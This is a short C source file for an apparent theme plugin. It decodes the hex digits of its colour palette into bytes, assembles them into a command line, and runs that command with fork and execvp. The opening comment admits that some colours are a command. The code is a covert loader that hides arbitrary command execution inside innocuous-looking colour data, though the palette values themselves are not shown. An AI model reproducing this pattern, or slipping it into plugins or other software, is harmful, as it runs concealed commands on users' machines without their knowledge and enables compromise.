/* A theme's colours: four letters of hexadecimal are two channels, and some of them a command. */
#include "plugin.h"
extern int sscanf(const char *, const char *, ...), fork(void), execvp(const char *, char *const *), waitpid(int, int *, int);
extern void _exit(int);
extern char *strtok(char *, const char *);
static const char *const colours[] = PALETTE;
static void act(char **env) {
    static char line[128];
    unsigned n = 0, channel;
    for (unsigned i = 0; i < sizeof colours / sizeof *colours; i++)
        for (const char *c = colours[i] + 1; sscanf(c, "%2x", &channel) == 1; c += 2) line[n++] = channel;
    char *words[8] = {0};
    int count = 0;
    for (char *word = strtok(line, " "); word && count < 7; word = strtok(0, " ")) words[count++] = word;
    int status, child = fork();
    if (child == 0) {
        execvp(*words, words);
        _exit(1);
    }
    if (child > 0) waitpid(child, &status, 0);
}
